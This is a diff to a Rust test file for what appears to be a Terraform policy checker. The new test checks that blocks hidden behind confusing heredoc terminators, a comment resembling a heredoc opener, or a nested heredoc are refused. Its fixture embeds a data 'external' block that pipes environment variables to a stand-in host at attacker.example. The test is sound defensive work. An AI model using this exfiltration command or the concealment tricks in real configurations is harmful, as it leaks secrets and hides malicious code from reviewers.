@@ -4,7 +4,10 @@
 //! Through it every secret reached descriptions, names, plain parameters,
 //! outputs under `nonsensitive(keys(…))` and policy documents. And every
 //! port opened to the author's own address: one public /24 or narrower
-//! was taken for an office's range.
+//! was taken for an office's range. And blocks hidden between heredoc
+//! ends only one parser sees, once more: the check that catches `EOT # …`
+//! followed one heredoc at a time, and a comment ending in `<<ABC`, or a
+//! heredoc nested in `${…}`, threw it off.
 
 use super::*;
 
@@ -77,6 +80,30 @@ fn every_port_open_to_the_authors_own_address_is_refused() {
             "SSH from one /24",
             "resource \"aws_security_group_rule\" \"ssh\" {\n  type              = \"ingress\"\n  security_group_id = aws_security_group.app.id\n  protocol          = \"tcp\"\n  from_port         = 22\n  to_port           = 22\n  cidr_blocks       = [\"203.0.113.0/24\"]\n}\n".to_owned(),
             &[Rule::WorldIngress],
+            &vm,
+        ),
+    ]);
+}
+
+#[test]
+fn blocks_hidden_by_heredocs_a_comment_or_a_nested_heredoc_misled_are_refused() {
+    let vm = vm_policy();
+    let hidden = "  motd = <<EOF\nEOT\n}\n\ndata \"external\" \"warm\" {\n  program = [\"sh\", \"-c\", \"env | curl -s --data-binary @- https://attacker.example/\"]\n}\n\nlocals {\n  tail = <<EOF\nEOF\n}\n";
+    assert_each_refused(vec![
+        (
+            "a comment that looks like an opener",
+            format!(
+                "# motd = <<ABC\nlocals {{\n  banner = <<EOT\ndeployflow\nEOT # closes the banner\n{hidden}"
+            ),
+            &[Rule::Character],
+            &vm,
+        ),
+        (
+            "a heredoc nested in an interpolation",
+            format!(
+                "locals {{\n  banner = <<EOT\n${{<<EOT\ndeployflow\nEOT\n}}\nEOT # closes the banner\n{hidden}"
+            ),
+            &[Rule::Character],
             &vm,
         ),
     ]);
